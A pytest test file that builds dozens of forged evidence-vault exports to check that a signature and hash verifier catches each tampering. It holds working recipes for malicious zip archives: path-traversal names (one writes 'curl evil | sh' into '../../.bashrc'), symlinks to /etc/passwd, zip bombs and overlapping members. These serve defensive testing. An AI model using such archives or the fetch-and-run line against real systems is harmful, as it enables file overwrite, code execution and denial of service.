"""The tamper matrix: doctored exports, each made the way an informed forger would, must all be found.

Every case starts from a real signed export of a real vault and changes it with ordinary tools
(zipfile, a text editor's worth of JSON, recomputed hashes, re-signing with a key the forger owns).
A case is found when verify-export says "not ok" (with the sender's true fingerprint, as after a
phone call) or refuses the input with one plain InputError. Nothing may crash or hang.
"""

from __future__ import annotations

import dataclasses
import hashlib
import json
import shutil
import stat
import struct
import tempfile
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pyzipper
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from standfast.errors import InputError
from standfast.vault.custody import GENESIS, canonical, content_hash, link_hash
from standfast.vault.export import export_case, verify_export
from standfast.vault.export_check import ExportCheck
from standfast.vault.keys import KdfParams
from standfast.vault.signing import (
    PUBLIC_KEY_NAME,
    SIGNATURE_FILES,
    SIGNATURE_NAME,
    STATEMENT_NAME,
    fingerprint,
    public_pem,
    public_raw,
    signing_key,
    vault_fingerprint,
)
from standfast.vault.vault import Vault
from tests.conftest import PASSPHRASE
from tests.vault.helpers import png_bytes

ENC_PASS = "export passphrase 42"
Members = dict[str, bytes]


@dataclass
class World:
    zip: Path
    folder: Path
    second: Path  # a later export of the same vault
    encrypted: Path
    other_vault_zip: Path
    fp: str
    other_key: Ed25519PrivateKey
    out: Path


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    base = tmp_path_factory.mktemp("tamper")
    src = base / "src"
    src.mkdir()
    (src / "chat.txt").write_text("send 500 USD or else", encoding="utf-8")
    (src / "café.txt").write_text("a name with an accent", encoding="utf-8")
    (src / "screenshot.png").write_bytes(png_bytes())
    vault, _ = Vault.create(base / "vault", PASSPHRASE, kdf=KdfParams.fast_for_tests(), actor="tester")
    other, _ = Vault.create(base / "other", PASSPHRASE, kdf=KdfParams.fast_for_tests(), actor="forger")
    try:
        case = vault.create_case("Tamper matrix", country="GB", age_group="adult")
        vault.add_path(case.id, src)
        vault.create_case("Someone else")
        exports = base / "exports"
        exports.mkdir()
        export_case(vault, case.id, exports / "e.zip")
        export_case(vault, case.id, exports / "folder")
        export_case(vault, case.id, exports / "second.zip")
        export_case(vault, case.id, exports / "enc.zip", encrypt_passphrase=ENC_PASS)
        oc = other.create_case("Forger's case")
        (src / "forged.txt").write_text("forged", encoding="utf-8")
        other.add_path(oc.id, src / "forged.txt")
        export_case(other, oc.id, exports / "other.zip")
        fp, other_key = vault_fingerprint(vault), signing_key(other)
    finally:
        vault.close()
        other.close()
    out = base / "doctored"
    out.mkdir()
    return World(exports / "e.zip", exports / "folder", exports / "second.zip", exports / "enc.zip",
                 exports / "other.zip", fp, other_key, out)


# -- tools of the forger ------------------------------------------------------------------------
def read_members(path: Path, password: str | None = None) -> Members:
    zf = pyzipper.AESZipFile(path) if password else zipfile.ZipFile(path)
    with zf:
        if password:
            zf.setpassword(password.encode())
        return {i.filename: zf.read(i.filename) for i in zf.infolist()}


def write_zip(path: Path, members: Members | list[tuple[str, bytes]], *, password: str | None = None) -> Path:
    items = list(members.items()) if isinstance(members, dict) else members
    if password:
        with pyzipper.AESZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as zf:
            zf.setpassword(password.encode())
            for name, data in items:
                zf.writestr(name, data)
    else:
        with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
            for name, data in items:
                zf.writestr(name, data)
    return path


def resum(m: Members) -> Members:
    listed = {n: d for n, d in m.items() if n != "SHA256SUMS" and n not in SIGNATURE_FILES}
    m["SHA256SUMS"] = "".join(f"{hashlib.sha256(d).hexdigest()}  {n}\n" for n, d in sorted(listed.items())).encode()
    return m


def resign(m: Members, key: Ed25519PrivateKey) -> Members:
    """Rebuild the statement over the current files and sign it with a key the forger owns."""
    statement = json.loads(m[STATEMENT_NAME])
    files = {n: hashlib.sha256(d).hexdigest() for n, d in m.items() if n not in SIGNATURE_FILES}
    raw = public_raw(key.public_key())
    statement.update(files=dict(sorted(files.items())), manifest_sha256=files.get("manifest.json"),
                     sha256sums_sha256=files.get("SHA256SUMS"), custody_sha256=files.get("custody.jsonl"),
                     signer={"algorithm": "Ed25519", "public_key": raw.hex(), "fingerprint": fingerprint(raw)},
                     custody_head=json.loads(m["manifest.json"])["custody_head"])
    body = canonical(statement)
    m[STATEMENT_NAME], m[SIGNATURE_NAME], m[PUBLIC_KEY_NAME] = body, key.sign(body), public_pem(key.public_key())
    return m


def edit_manifest(m: Members, change: Callable[[dict[str, Any]], None]) -> Members:
    manifest = json.loads(m["manifest.json"])
    change(manifest)
    m["manifest.json"] = json.dumps(manifest, indent=2, ensure_ascii=False).encode()
    return m


def rechain(m: Members, change: Callable[[list[dict[str, Any]]], list[dict[str, Any]]]) -> Members:
    """Edit the custody log, then recompute every hash of the chain and the manifest's head."""
    lines = [json.loads(line) for line in m["custody.jsonl"].decode().splitlines()]
    lines = change(lines)
    prev = GENESIS
    for n, e in enumerate(lines, 1):
        e["seq"] = n
        if not e.get("redacted"):
            e["content_hash"] = content_hash({k: e.get(k) for k in ("seq", "time", "actor", "action", "case_id",
                                                                    "item_id", "details")})
        e["prev_hash"] = prev
        e["hash"] = prev = link_hash(prev, e["content_hash"])
    m["custody.jsonl"] = b"".join(canonical(e) + b"\n" for e in lines)
    return edit_manifest(m, lambda d: d.update(custody_head={"seq": len(lines), "hash": prev}))


def original(m: Members, stem: str = "chat") -> str:
    return next(n for n in m if n.startswith(f"originals/{stem}"))


def _set_time(lines: list[dict[str, Any]], when: str) -> list[dict[str, Any]]:
    lines[1]["time"] = when
    return lines


def _flip(data: bytes) -> bytes:
    return bytes([data[0] ^ 1]) + data[1:]


# -- the cases: each returns the doctored export and the kinds that may report it ------------------
Case = Callable[[World], tuple[Path, set[str]]]
CASES: dict[str, Case] = {}


def case(name: str) -> Callable[[Case], Case]:
    def register(fn: Case) -> Case:
        CASES[name] = fn
        return fn
    return register


def _z(w: World, name: str, m: Members | list[tuple[str, bytes]], **kw: Any) -> Path:
    return write_zip(w.out / f"{name}.zip", m, **kw)


@case("planted file")
def _c1(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m["originals/proof.jpg"] = png_bytes()
    return _z(w, "c1", m), {"planted"}


@case("planted file, SHA256SUMS recomputed")
def _c2(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m["originals/proof.jpg"] = png_bytes()
    return _z(w, "c2", resum(m)), {"planted"}


@case("planted file with a manifest entry, SHA256SUMS recomputed")
def _c3(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    data = png_bytes((40, 40))
    m["originals/proof.png"] = data
    row = {"id": "ffffffffffffffff", "file": "originals/proof.png", "sha256": hashlib.sha256(data).hexdigest(),
           "md5": hashlib.md5(data).hexdigest(), "size": len(data)}
    return _z(w, "c3", resum(edit_manifest(m, lambda d: d["items"].append(row)))), {"planted"}


@case("removed file")
def _c4(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    del m[original(m)]
    return _z(w, "c4", m), {"removed"}


@case("removed file and its manifest entry, SHA256SUMS recomputed")
def _c5(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    gone = original(m)
    del m[gone]
    edit_manifest(m, lambda d: d.update(items=[r for r in d["items"] if r["file"] != gone]))
    return _z(w, "c5", resum(m)), {"removed"}


@case("removed file, manifest entry and custody entries, chain recomputed")
def _c6(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    gone = original(m)
    row = next(r for r in json.loads(m["manifest.json"])["items"] if r["file"] == gone)
    del m[gone]
    edit_manifest(m, lambda d: d.update(items=[r for r in d["items"] if r["file"] != gone]))
    rechain(m, lambda lines: [e for e in lines if e.get("item_id") != row["id"]])
    return _z(w, "c6", resum(m)), {"removed", "manifest", "custody", "sums"}


@case("edited original")
def _c7(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m[original(m)] = b"pay 50 USD"
    return _z(w, "c7", m), {"edited"}


@case("edited original, SHA256SUMS recomputed")
def _c8(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m[original(m)] = b"pay 50 USD"
    return _z(w, "c8", resum(m)), {"edited"}


@case("edited original, manifest hashes and SHA256SUMS recomputed")
def _c9(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    name = original(m)
    data = m[name] = b"pay 50 USD"

    def fix(d: dict[str, Any]) -> None:
        for r in d["items"]:
            if r["file"] == name:
                r.update(sha256=hashlib.sha256(data).hexdigest(), md5=hashlib.md5(data).hexdigest(), size=len(data))
    return _z(w, "c9", resum(edit_manifest(m, fix))), {"edited", "manifest"}


@case("edited original, manifest and custody hashes rebuilt, chain recomputed")
def _c10(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    name = original(m)
    data = m[name] = b"pay 50 USD"
    new = {"sha256": hashlib.sha256(data).hexdigest(), "md5": hashlib.md5(data).hexdigest(), "size": len(data)}
    item_id = next(r["id"] for r in json.loads(m["manifest.json"])["items"] if r["file"] == name)
    edit_manifest(m, lambda d: [r.update(new) for r in d["items"] if r["id"] == item_id])

    def relog(lines: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for e in lines:
            if e.get("item_id") == item_id and e.get("action") == "item.added":
                e["details"].update(new)
        return lines
    return _z(w, "c10", resum(rechain(m, relog))), {"edited", "manifest", "custody", "sums"}


@case("edited manifest entry (original name), SHA256SUMS recomputed")
def _c11(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    edit_manifest(m, lambda d: d["items"][0].update(original_name="innocent.txt"))
    return _z(w, "c11", resum(m)), {"manifest"}


@case("changed manifest export time, SHA256SUMS recomputed")
def _c12(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c12", resum(edit_manifest(m, lambda d: d.update(exported_at="2020-01-01T00:00:00+00:00")))), {
        "manifest"}


@case("changed item file time in the manifest, SHA256SUMS recomputed")
def _c13(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c13", resum(edit_manifest(m, lambda d: d["items"][0].update(
        mtime="2019-05-05T10:00:00+00:00")))), {"manifest"}


@case("changed item collection time in the manifest, SHA256SUMS recomputed")
def _c14(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c14", resum(edit_manifest(m, lambda d: d["items"][1].update(
        acquired_at="2019-05-05T10:00:00+00:00")))), {"manifest"}


@case("changed case creation time in the manifest, SHA256SUMS recomputed")
def _c15(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c15", resum(edit_manifest(m, lambda d: d["case"].update(
        created_at="2019-05-05T10:00:00+00:00")))), {"manifest"}


@case("edited manifest.csv, SHA256SUMS recomputed")
def _c16(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m["manifest.csv"] = m["manifest.csv"].replace(b"chat", b"chit")
    return _z(w, "c16", resum(m)), {"manifest"}


@case("custody entry time changed (hashes left)")
def _c17(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    lines = [json.loads(line) for line in m["custody.jsonl"].decode().splitlines()]
    lines[1]["time"] = "2019-01-01T00:00:00+00:00"
    m["custody.jsonl"] = b"".join(canonical(e) + b"\n" for e in lines)
    return _z(w, "c17", m), {"custody"}


@case("custody entry time changed, chain, manifest head and SHA256SUMS recomputed")
def _c18(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c18", resum(rechain(m, lambda ls: _set_time(ls, "2019-01-01T00:00:00+00:00")))), {
        "custody", "manifest", "sums"}


@case("custody entry removed, chain recomputed")
def _c19(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c19", resum(rechain(m, lambda ls: ls[:2] + ls[3:]))), {"custody", "manifest", "sums"}


@case("custody log cut short, manifest head moved back")
def _c20(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c20", resum(rechain(m, lambda ls: ls[:-1]))), {"custody", "manifest", "sums"}


@case("custody entry's actor changed, no rehash")
def _c21(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m["custody.jsonl"] = m["custody.jsonl"].replace(b'"actor":"tester"', b'"actor":"police"', 1)
    return _z(w, "c21", m), {"custody"}


@case("README edited, SHA256SUMS recomputed")
def _c22(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m["README.txt"] += b"\nAll of this is fake.\n"
    return _z(w, "c22", resum(m)), {"edited"}


@case("SHA256SUMS line removed")
def _c23(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m["SHA256SUMS"] = b"".join(m["SHA256SUMS"].splitlines(keepends=True)[1:])
    return _z(w, "c23", m), {"sums"}


@case("SHA256SUMS not in sha256sum format")
def _c24(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m["SHA256SUMS"] = b"this is not a checksum file\n"
    return _z(w, "c24", m), {"sums"}


@case("signature bytes replaced")
def _c25(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m[SIGNATURE_NAME] = bytes(64)
    return _z(w, "c25", m), {"signature"}


@case("signature swapped with the one of another export of the same vault")
def _c26(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m[SIGNATURE_NAME] = read_members(w.second)[SIGNATURE_NAME]
    return _z(w, "c26", m), {"signature"}


@case("statement and signature taken from another export of the same vault")
def _c27(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    theirs = read_members(w.second)
    for n in SIGNATURE_FILES:
        m[n] = theirs[n]
    return _z(w, "c27", m), {"edited", "manifest", "custody", "sums"}


@case("signed statement edited to match an edited original (not re-signed)")
def _c28(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    name = original(m)
    m[name] = b"pay 50 USD"
    statement = json.loads(m[STATEMENT_NAME])
    statement["files"][name] = hashlib.sha256(m[name]).hexdigest()
    m[STATEMENT_NAME] = canonical(statement)
    return _z(w, "c28", m), {"signature"}


@case("signature files removed (looks like an old export)")
def _c29(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    for n in SIGNATURE_FILES:
        del m[n]
    return _z(w, "c29", m), {"signature"}


@case("public key replaced with another key")
def _c30(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m[PUBLIC_KEY_NAME] = public_pem(w.other_key.public_key())
    return _z(w, "c30", m), {"signature"}


@case("public key file is not a key")
def _c31(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m[PUBLIC_KEY_NAME] = b"-----BEGIN PUBLIC KEY-----\nnot base64\n-----END PUBLIC KEY-----\n"
    return _z(w, "c31", m), {"signature"}


@case("edited original, everything re-signed with another vault's key")
def _c32(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m[original(m)] = b"pay 50 USD"
    return _z(w, "c32", resign(resum(m), w.other_key)), {"signature", "edited", "manifest", "fingerprint"}


@case("complete forgery: custody key entry rewritten, chain recomputed, re-signed with another key")
def _c33(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    raw = public_raw(w.other_key.public_key())

    def swap_key(lines: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for e in lines:
            if e.get("action") == "vault.signing_key_created":
                e["details"].update(public_key=raw.hex(), fingerprint=fingerprint(raw))
        return lines
    return _z(w, "c33", resign(resum(rechain(m, swap_key)), w.other_key)), {"fingerprint"}


@case("another vault's whole export passed off as this one")
def _c34(w: World) -> tuple[Path, set[str]]:
    return w.other_vault_zip, {"fingerprint"}


@case("truncated zip (half)")
def _c35(w: World) -> tuple[Path, set[str]]:
    data = w.zip.read_bytes()
    p = w.out / "c35.zip"
    p.write_bytes(data[: len(data) // 2])
    return p, {"error"}


@case("truncated zip (end record cut)")
def _c36(w: World) -> tuple[Path, set[str]]:
    data = w.zip.read_bytes()
    p = w.out / "c36.zip"
    p.write_bytes(data[:-10])
    return p, {"error", "extra_data", "container"}


@case("not a zip at all")
def _c37(w: World) -> tuple[Path, set[str]]:
    p = w.out / "c37.zip"
    p.write_bytes(b"%PDF-1.7 definitely not a zip" * 100)
    return p, {"error"}


@case("path traversal name")
def _c38(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c38", [*m.items(), ("../../.bashrc", b"curl evil | sh")]), {"unsafe_name"}


@case("absolute and drive-letter names")
def _c39(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c39", [*m.items(), ("/etc/cron.d/x", b"x"), ("C:/Windows/x", b"x")]), {"unsafe_name"}


@case("backslash traversal name")
def _c40(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c40", [*m.items(), ("originals\\..\\..\\x", b"x")]), {"unsafe_name"}


@case("duplicate manifest.json (the second one wins when unpacked)")
def _c41(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    fake = edit_manifest(dict(m), lambda d: d.update(exported_at="2019-01-01T00:00:00+00:00"))["manifest.json"]
    with pytest.warns(UserWarning):
        return _z(w, "c41", [*m.items(), ("manifest.json", fake)]), {"duplicate"}


@case("duplicate original with other content")
def _c42(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    with pytest.warns(UserWarning):
        return _z(w, "c42", [*m.items(), (original(m), b"pay 50 USD")]), {"duplicate"}


@case("zip bomb: a member compressed far beyond real data (bzip2)")
def _c43(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    p = w.out / "c43.zip"
    write_zip(p, m)
    with zipfile.ZipFile(p, "a", compression=zipfile.ZIP_BZIP2) as zf, \
            zf.open("originals/bomb.bin", "w", force_zip64=True) as fh:
        block = bytes(1 << 20)
        for _ in range(256):
            fh.write(block)
    assert p.stat().st_size < 1 << 20
    return p, {"bomb"}


@case("zip bomb: members overlapping the same compressed bytes")
def _c44(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    p = write_zip(w.out / "c44.zip", m)
    # Point the central directory entry of README.txt at the bytes of manifest.json (overlap).
    data = bytearray(p.read_bytes())
    with zipfile.ZipFile(p) as zf:
        infos = {i.filename: i for i in zf.infolist()}
        start_dir = zf.start_dir  # type: ignore[attr-defined]
    target = infos["manifest.json"].header_offset
    pos = start_dir
    while data[pos:pos + 4] == b"PK\x01\x02":
        n, e, c = struct.unpack("<HHH", data[pos + 28:pos + 34])
        name = bytes(data[pos + 46:pos + 46 + n]).decode()
        if name == "README.txt":
            data[pos + 42:pos + 46] = struct.pack("<I", target)
        pos += 46 + n + e + c
    p.write_bytes(bytes(data))
    return p, {"bomb", "container", "unreadable", "error", "edited"}


@case("zip bomb: a member declaring an impossible size")
def _c45(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    p = write_zip(w.out / "c45.zip", m)
    data = bytearray(p.read_bytes())
    pos = data.rfind(b"PK\x01\x02")  # the last central directory entry: set its size to 4 GB - 1
    data[pos + 24:pos + 28] = struct.pack("<I", 0xFFFFFFFE)
    p.write_bytes(bytes(data))
    return p, {"bomb", "container", "unreadable", "error", "edited"}


@case("symbolic link entry planted")
def _c46(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    p = write_zip(w.out / "c46.zip", m)
    with zipfile.ZipFile(p, "a") as zf:
        info = zipfile.ZipInfo("originals/passwd")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/etc/passwd")
    return p, {"symlink"}


@case("original replaced by a symbolic link")
def _c47(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    name = original(m)
    del m[name]
    p = write_zip(w.out / "c47.zip", m)
    with zipfile.ZipFile(p, "a") as zf:
        info = zipfile.ZipInfo(name)
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zf.writestr(info, "/etc/passwd")
    return p, {"symlink"}


@case("unicode look-alike name planted next to the original (NFD café)")
def _c48(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    name = original(m, "café")
    return _z(w, "c48", resum({**m, unicodedata.normalize("NFD", name): b"other words"})), {"lookalike", "planted"}


@case("original renamed to its unicode look-alike")
def _c49(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    name = original(m, "café")
    m[unicodedata.normalize("NFD", name)] = m.pop(name)
    return _z(w, "c49", resum(m)), {"removed", "planted"}


@case("case-only look-alike of README planted")
def _c50(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    return _z(w, "c50", resum({**m, "readme.TXT": b"read me instead"})), {"lookalike", "planted"}


@case("extra data appended after the zip")
def _c51(w: World) -> tuple[Path, set[str]]:
    p = w.out / "c51.zip"
    p.write_bytes(w.zip.read_bytes() + b"hidden payload " * 50)
    return p, {"extra_data", "error"}


@case("extra data prepended before the zip")
def _c52(w: World) -> tuple[Path, set[str]]:
    p = w.out / "c52.zip"
    p.write_bytes(b"MZ hidden program " * 64 + w.zip.read_bytes())
    return p, {"extra_data", "container", "error"}


@case("zip comment added")
def _c53(w: World) -> tuple[Path, set[str]]:
    p = w.out / "c53.zip"
    shutil.copyfile(w.zip, p)
    with zipfile.ZipFile(p, "a") as zf:
        zf.comment = b"the real evidence is elsewhere"
    return p, {"extra_data"}


@case("bytes hidden between two members")
def _c54(w: World) -> tuple[Path, set[str]]:
    p = write_zip(w.out / "c54.zip", read_members(w.zip))
    data = p.read_bytes()
    with zipfile.ZipFile(p) as zf:
        at = zf.infolist()[2].header_offset
        start_dir = zf.start_dir  # type: ignore[attr-defined]
    hidden = b"\x00secret bytes here\x00"
    directory = bytearray(data[start_dir:])
    pos = 0
    while directory[pos:pos + 4] == b"PK\x01\x02":  # move every later member's offset along
        n, e, c = struct.unpack("<HHH", directory[pos + 28:pos + 34])
        (offset,) = struct.unpack("<I", directory[pos + 42:pos + 46])
        if offset >= at:
            directory[pos + 42:pos + 46] = struct.pack("<I", offset + len(hidden))
        pos += 46 + n + e + c
    end = len(directory) - 22
    directory[end + 16:end + 20] = struct.pack("<I", start_dir + len(hidden))
    p.write_bytes(data[:at] + hidden + data[at:start_dir] + bytes(directory))
    with zipfile.ZipFile(p) as zf:
        assert zf.testzip() is None  # still a perfectly readable zip
    return p, {"extra_data"}


@case("local header name differs from the directory name")
def _c55(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    p = write_zip(w.out / "c55.zip", m)
    data = p.read_bytes()
    pos = data.find(b"PK\x03\x04")
    n = struct.unpack("<H", data[pos + 26:pos + 28])[0]
    name = data[pos + 30:pos + 30 + n]
    p.write_bytes(data[:pos + 30] + name.replace(b"o", b"0", 1) + data[pos + 30 + n:])
    return p, {"unreadable", "error", "edited", "removed"}


@case("stored bytes flipped inside the zip (CRC no longer matches)")
def _c56(w: World) -> tuple[Path, set[str]]:
    data = bytearray(w.zip.read_bytes())
    pos = data.find(b"send 500 USD")
    data[pos] ^= 0x20
    p = w.out / "c56.zip"
    p.write_bytes(bytes(data))
    return p, {"unreadable", "edited"}


@case("folder export: planted file")
def _c57(w: World) -> tuple[Path, set[str]]:
    p = w.out / "c57"
    shutil.copytree(w.folder, p)
    (p / "originals" / "proof.jpg").write_bytes(png_bytes())
    return p, {"planted"}


@case("folder export: symbolic link planted")
def _c58(w: World) -> tuple[Path, set[str]]:
    p = w.out / "c58"
    shutil.copytree(w.folder, p)
    (p / "originals" / "shadow").symlink_to("/etc/passwd")
    return p, {"symlink"}


@case("folder export: edited original, SHA256SUMS recomputed")
def _c59(w: World) -> tuple[Path, set[str]]:
    p = w.out / "c59"
    shutil.copytree(w.folder, p)
    target = next((p / "originals").glob("chat*"))
    target.write_bytes(b"pay 50 USD")
    sums = "".join(f"{hashlib.sha256(f.read_bytes()).hexdigest()}  {f.relative_to(p).as_posix()}\n"
                   for f in sorted(p.rglob("*")) if f.is_file() and f.name != "SHA256SUMS"
                   and not f.relative_to(p).as_posix().startswith("signature/"))
    (p / "SHA256SUMS").write_text(sums)
    return p, {"edited"}


@case("folder export: NFD look-alike file planted")
def _c60(w: World) -> tuple[Path, set[str]]:
    p = w.out / "c60"
    shutil.copytree(w.folder, p)
    (p / "originals" / unicodedata.normalize("NFD", "café.txt")).write_text("other")
    return p, {"lookalike", "planted"}


@case("encrypted export: unencrypted member planted")
def _c61(w: World) -> tuple[Path, set[str]]:
    p = w.out / "c61.zip"
    shutil.copyfile(w.encrypted, p)
    with zipfile.ZipFile(p, "a") as zf:
        zf.writestr("originals/proof.txt", "planted in plain text")
    return p, {"planted"}


@case("encrypted export: original edited and re-encrypted with the same passphrase")
def _c62(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.encrypted, ENC_PASS)
    name = next(n for n in m if n.startswith("originals/") and m[n] == b"send 500 USD or else")
    m[name] = b"pay 50 USD"
    return _z(w, "c62", resum(m), password=ENC_PASS), {"edited"}


@case("manifest.json replaced by deeply nested JSON")
def _c63(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m["manifest.json"] = b"[" * 100000 + b"]" * 100000
    return _z(w, "c63", resum(m)), {"manifest"}


@case("custody.jsonl replaced by binary garbage")
def _c64(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    m["custody.jsonl"] = bytes(range(256)) * 4
    return _z(w, "c64", resum(m)), {"custody"}


@case("manifest.json removed")
def _c65(w: World) -> tuple[Path, set[str]]:
    m = read_members(w.zip)
    del m["manifest.json"]
    return _z(w, "c65", resum(m)), {"removed"}


def _password_for(path: Path) -> str | None:
    with zipfile.ZipFile(path) as zf:
        return ENC_PASS if any(i.flag_bits & 1 for i in zf.infolist()) else None


def run_case(w: World, name: str, *, with_fingerprint: bool = True) -> tuple[ExportCheck | None, set[str]]:
    out = Path(tempfile.mkdtemp(dir=w.out))  # below the test's own tmp folder
    path, kinds = CASES[name](dataclasses.replace(w, out=out))
    password = _password_for(path) if path.is_file() and zipfile.is_zipfile(path) else None
    try:
        return verify_export(path, password=password, fingerprint=w.fp if with_fingerprint else None), kinds
    except InputError:
        return None, kinds


def test_the_matrix_has_forty_plus_cases() -> None:
    assert len(CASES) >= 40


def test_untouched_exports_pass(world: World) -> None:
    for path, password in ((world.zip, None), (world.folder, None), (world.second, None),
                           (world.encrypted, ENC_PASS)):
        check = verify_export(path, password=password, fingerprint=world.fp)
        assert check.ok, (path, check.problems)


@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", sorted(CASES))
def test_doctored_export_is_found(world: World, name: str) -> None:
    check, kinds = run_case(world, name)
    if check is None:
        assert "error" in kinds, f"{name}: refused as unreadable, expected {kinds}"
        return
    assert not check.ok, f"{name}: not found"
    found = {p.kind for p in check.problems}
    assert found & kinds, f"{name}: found as {found}, expected one of {kinds}"


def test_matrix_totals(world: World, capsys: pytest.CaptureFixture[str]) -> None:
    """The figures for the notes: found with the sender's fingerprint, and without any."""
    with_fp = without_fp = 0
    for name in CASES:
        check, _ = run_case(world, name)
        with_fp += check is None or not check.ok
        check, _ = run_case(world, name, with_fingerprint=False)
        without_fp += check is None or not check.ok
    missed = [n for n in CASES if (c := run_case(world, n, with_fingerprint=False)[0]) is not None and c.ok]
    with capsys.disabled():
        print(f"\npassing without a fingerprint: {missed}")
        print(f"\ntamper matrix: {with_fp}/{len(CASES)} found with the fingerprint, "
              f"{without_fp}/{len(CASES)} without one")
    assert with_fp == len(CASES)
    # Only a complete forgery with a key of the forger's own (or another vault's whole export)
    # passes without the fingerprint; the output then says it proves nothing about who made it.
    assert without_fp >= len(CASES) - 2
